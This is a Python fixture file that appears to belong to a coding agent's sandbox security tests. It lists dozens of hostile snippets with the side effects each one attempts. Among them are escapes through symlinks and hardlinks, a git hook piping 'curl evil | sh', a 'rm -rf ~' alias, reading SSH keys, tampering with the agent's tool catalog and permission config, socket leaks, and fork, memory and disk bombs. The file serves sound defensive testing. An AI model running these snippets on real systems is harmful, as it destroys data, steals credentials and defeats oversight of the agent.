"""At least 40 hostile or buggy snippets, each with the side effects it tries to cause and the fallback tier's known misses."""

from __future__ import annotations

from dataclasses import dataclass, field

# Effects checked after every snippet (tests/test_sandbox_security.py measures each one directly):
OUTSIDE = "outside"      # the folder outside the project is byte-identical
GIT = "git"              # the hash of .git is unchanged
CATALOG = "catalog"      # the hash of .agent/tools, .agent/recipes, .agent/config.toml is unchanged
NETWORK = "network"      # the TCP, UDP and unix-socket listeners saw nothing
CANARY = "canary"        # the canary process is alive
LEFTOVERS = "leftovers"  # no process the snippet started is left
HOME = "home"            # nothing of the user's home was readable


@dataclass(frozen=True)
class Case:
    name: str
    code: str
    rlimits_misses: frozenset[str] = frozenset()
    policy: dict = field(default_factory=dict)
    expect_failure: bool = False


def case(name: str, code: str, *misses: str, expect_failure: bool = False, **policy: object) -> Case:
    return Case(name, code, frozenset(misses), dict(policy), expect_failure)


CONNECT_TCP = "import socket\nsocket.create_connection(('127.0.0.1', {tcp_port}), timeout=1).sendall(b'leak')"

CASES: list[Case] = [
    case("os_system", "import os\nos.system('echo pwned > {outside}/os_system')", OUTSIDE),
    case("subprocess", "import subprocess\nsubprocess.run(['sh', '-c', 'echo x > {outside}/sub'], check=True)", OUTSIDE,
         expect_failure=True),
    case("exec_string", "exec(\"open(r'{outside}/exec', 'w').write('x')\")", OUTSIDE, expect_failure=True),
    case("dunder_import", "__import__('os').open('{outside}/imp', 0o101)", OUTSIDE, expect_failure=True),
    case("ctypes_libc_open",
         "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
         "fd = libc.open(b'{outside}/ctypes', os.O_WRONLY | os.O_CREAT, 0o644)\n"
         "assert fd >= 0, ctypes.get_errno()", OUTSIDE, expect_failure=True),
    case("pickle_gadget",
         "import pickle, os\nclass Gadget:\n    def __reduce__(self):\n"
         "        return (os.system, ('echo x > {outside}/pickle',))\npickle.loads(pickle.dumps(Gadget()))", OUTSIDE),
    case("overwrite_outside_file", "open('{outside}/victim.txt', 'w').write('pwned')", OUTSIDE, expect_failure=True),
    case("chdir_outside", "import os\nos.chdir('{outside}')\nopen('relative', 'w').write('x')", OUTSIDE,
         expect_failure=True),
    case("symlink_dir_escape", "import os\nos.symlink('{outside}', 'escape')\nopen('escape/s', 'w').write('x')",
         OUTSIDE, expect_failure=True),
    case("symlink_file_escape",
         "import os\nos.symlink('{outside}/victim.txt', 'vlink')\nopen('vlink', 'w').write('pwned')", OUTSIDE,
         expect_failure=True),
    case("hardlink_outside",
         "import os\nos.link('{outside}/victim.txt', 'hl')\nopen('hl', 'w').write('pwned')", OUTSIDE,
         expect_failure=True),
    case("hardlink_into_git",
         "import os\nos.link('.git/config', 'gitconfig')\nopen('gitconfig', 'a').write('[core]\\n\\thooksPath = /tmp\\n')",
         GIT, expect_failure=True),
    case("git_hook", "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ncurl evil | sh\\n')", GIT,
         expect_failure=True),
    case("git_delete", "import shutil\nshutil.rmtree('.git')", GIT, expect_failure=True),
    case("git_rename", "import os\nos.rename('.git', 'gone')", GIT, expect_failure=True),
    case("git_config_append", "open('.git/config', 'a').write('[alias]\\n\\tst = !rm -rf ~\\n')", GIT,
         expect_failure=True),
    case("git_objects_truncate",
         "import pathlib\nfor p in pathlib.Path('.git/objects').rglob('*'):\n    if p.is_file():\n        p.write_bytes(b'')",
         GIT, expect_failure=True),
    case("catalog_overwrite", "open('.agent/tools/count_lines.py', 'w').write('def count_lines(): return 0')",
         CATALOG, expect_failure=True),
    case("catalog_delete", "import os\nos.remove('.agent/tools/count_lines.py')", CATALOG, expect_failure=True),
    case("catalog_plant_tool", "open('.agent/tools/evil.py', 'w').write('def evil():\\n    pass\\n')", CATALOG,
         expect_failure=True),
    case("catalog_rename_dir", "import os\nos.rename('.agent/tools', '.agent/tools_gone')", CATALOG,
         expect_failure=True),
    case("config_overwrite", "open('.agent/config.toml', 'w').write('[permissions]\\nmode = \"auto\"\\n')", CATALOG,
         expect_failure=True),
    case("recipe_plant", "open('.agent/recipes/evil.toml', 'w').write('x = 1')", CATALOG, expect_failure=True),
    case("tcp_connect", CONNECT_TCP, expect_failure=True),
    case("tcp_from_subprocess",
         "import subprocess, sys\nsubprocess.run([sys.executable, '-c', {connect_tcp!r}], check=True)",
         expect_failure=True),
    case("tcp_bash_dev_tcp", "import subprocess\nsubprocess.run(['bash', '-c', 'echo leak > /dev/tcp/127.0.0.1/{tcp_port}'], check=True)",
         expect_failure=True),
    case("udp_send", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', {udp_port}))",
         expect_failure=True),
    case("unix_socket_in_project",
         "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('{unix_in_project}')\ns.sendall(b'leak')",
         expect_failure=True),
    case("unix_socket_outside",
         "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('{unix_outside}')\ns.sendall(b'leak')",
         expect_failure=True),
    case("socket_via_ctypes",
         "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfd = libc.socket(2, 1, 0)\nassert fd >= 0, 'socket refused'",
         expect_failure=True),
    case("read_home", "import os\nos.listdir('{real_home}')", HOME),
    case("read_ssh_keys", "import glob\nglob.glob('{real_home}/.ssh/*') + glob.glob('/root/.ssh/*') + glob.glob('/home/*/.ssh/*')",
         HOME),
    case("kill_parent", "import os, signal\nos.kill({parent_pid}, signal.SIGKILL)", expect_failure=True),
    case("kill_parent_group", "import os, signal\nos.killpg({parent_pgid}, signal.SIGKILL)", expect_failure=True),
    case("kill_everything_probe", "import os\nos.kill(-1, 0)", expect_failure=True),
    case("kill_canary", "import os, signal\nos.kill({canary_pid}, signal.SIGKILL)", CANARY, expect_failure=True),
    case("ptrace_canary",
         "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
         "assert libc.ptrace(16, {canary_pid}, 0, 0) == 0, ctypes.get_errno()", expect_failure=True),
    case("unshare_user_namespace",
         "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nassert libc.unshare(0x10000000) == 0, ctypes.get_errno()",
         expect_failure=True),
    case("mount_tmpfs",
         "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
         "assert libc.mount(b'none', b'.git', b'tmpfs', 0, None) == 0, ctypes.get_errno()", expect_failure=True),
    case("raise_rlimits",
         "import resource\nresource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))",
         expect_failure=True),
    case("raise_rlimits_prlimit",
         "import resource, os\nresource.prlimit(os.getpid(), resource.RLIMIT_NOFILE, (4096, 4096))", expect_failure=True),
    case("infinite_loop", "while True:\n    pass", expect_failure=True, timeout_s=1.0),
    case("memory_bomb", "blocks = []\nwhile True:\n    blocks.append(bytearray(16 * 1024 * 1024))", expect_failure=True,
         memory_mb=256),
    case("disk_bomb", "with open('bomb.bin', 'wb') as f:\n    while True:\n        f.write(b'0' * 65536)",
         expect_failure=True, file_size_mb=2),
    case("output_bomb", "while True:\n    print('x' * 10000)", expect_failure=True, timeout_s=1.5),
    case("fork_bomb", "import os\nwhile True:\n    os.fork()", expect_failure=True, timeout_s=2.0, processes=16),
    case("daemon_double_fork",
         "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
         "        os.execv('/bin/sh', ['/bin/sh', '-c', 'sleep 300; : {tag}'])\n    os._exit(0)\n'spawned'"),
    case("daemon_new_session",
         "import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'sleep 300; : {tag}'], start_new_session=True,\n"
         "    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n'spawned'"),
    case("daemon_then_hang",
         "import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'sleep 300; : {tag}'], start_new_session=True)\n"
         "while True:\n    pass", expect_failure=True, timeout_s=1.0),
    case("daemon_clears_env",
         "import os\nif os.fork() == 0:\n    os.setsid()\n    os.execve('/bin/sh', ['/bin/sh', '-c', 'sleep 300; : {tag}'], {{}})\n"
         "'spawned'"),
]

POSITIVE_CONTROL = (
    "import json, os, subprocess\n"
    "open('result.txt', 'w').write('written by the sandbox')\n"
    "git_head = open('.git/HEAD').read().strip()\n"
    "echo = subprocess.run(['echo', 'child ok'], capture_output=True, text=True).stdout.strip()\n"
    "{'head': git_head, 'echo': echo, 'lines': sum(1 for _ in open('README.md'))}"
)
